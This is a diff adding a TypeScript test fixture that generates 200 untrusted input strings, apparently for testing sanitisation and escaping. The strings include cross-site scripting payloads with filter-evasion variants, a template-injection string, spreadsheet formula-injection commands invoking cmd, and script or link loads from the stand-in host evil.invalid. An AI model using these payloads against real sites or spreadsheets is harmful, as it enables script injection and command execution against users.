@@ -1,0 +1,48 @@
+// Two hundred texts that would do something if anybody ever took them for more than text.
+
+const deed = (n: number) => `window.__harm=${n}`
+const shapes: ((n: number) => string)[] = [
+  (n) => `<script>${deed(n)}</script>`,
+  (n) => `"><script>${deed(n)}</script>`,
+  (n) => `</title><script>${deed(n)}</script>`,
+  (n) => `<img src=x onerror="${deed(n)}">`,
+  (n) => `<img src=x onerror=${deed(n)}//`,
+  (n) => `<svg onload="${deed(n)}">`,
+  (n) => `<svg><script>${deed(n)}</script></svg>`,
+  (n) => `<svg><animate onbegin="${deed(n)}" attributeName=x dur=1s>`,
+  (n) => `<iframe srcdoc="<script>parent.${deed(n)}</script>">`,
+  (n) => `<iframe src="javascript:parent.${deed(n)}">`,
+  (n) => `<body onload="${deed(n)}">`,
+  (n) => `<details open ontoggle="${deed(n)}">`,
+  (n) => `<video><source onerror="${deed(n)}"></video>`,
+  (n) => `<audio src=x onerror="${deed(n)}">`,
+  (n) => `<input autofocus onfocus="${deed(n)}">`,
+  (n) => `<a href="javascript:${deed(n)}">x</a>`,
+  (n) => `<form action="javascript:${deed(n)}"><button>x</button></form>`,
+  (n) => `<math><mtext></mtext><script>${deed(n)}</script></math>`,
+  (n) => `<object data="javascript:${deed(n)}">`,
+  (n) => `<embed src="javascript:${deed(n)}">`,
+  (n) => `<meta http-equiv="refresh" content="0;url=javascript:${deed(n)}">`,
+  (n) => `<link rel=stylesheet href="javascript:${deed(n)}">`,
+  (n) => `<style>@import "javascript:${deed(n)}";</style>`,
+  (n) => `<div style="background:url(javascript:${deed(n)})">`,
+  (n) => `<marquee onstart="${deed(n)}">`,
+  (n) => `<template><script>${deed(n)}</script></template>`,
+  (n) => `<noscript><p title="</noscript><img src=x onerror=${deed(n)}>">`,
+  (n) => `'-${deed(n)}-'`,
+  (n) => `\${${deed(n)}}`,
+  (n) => `{{constructor.constructor('${deed(n)}')()}}`,
+  (n) => `javascript:${deed(n)}`,
+  (n) => `&lt;script&gt;${deed(n)}&lt;/script&gt;`,
+  (n) => `\u003cscript\u003e${deed(n)}\u003c/script\u003e`,
+  (n) => `<scr<script>ipt>${deed(n)}</scr</script>ipt>`,
+  (n) => `<SCRIPT SRC=//evil.invalid/${n}.js></SCRIPT>`,
+  (n) => `<img src="https://evil.invalid/${n}.png">`,
+  (n) => `=HYPERLINK("https://evil.invalid/${n}","x")`,
+  (n) => `+cmd|'/c calc'!A${n}`,
+  (n) => `@SUM(${n})*cmd|'/c calc'!A0`,
+  (n) => `-2+${n}+cmd|'/c calc'!A0`,
+]
+/** Each shape plain, in capitals, after a quote, before Chinese words, and across a line of an address. */
+const dresses: ((text: string) => string)[] = [(t) => t, (t) => t.toUpperCase(), (t) => `'"${t}`, (t) => `${t} 宁波`, (t) => `x ${t} y`]
+export const untrusted: readonly string[] = dresses.flatMap((dress, d) => shapes.map((shape, s) => dress(shape(d * shapes.length + s + 1))))
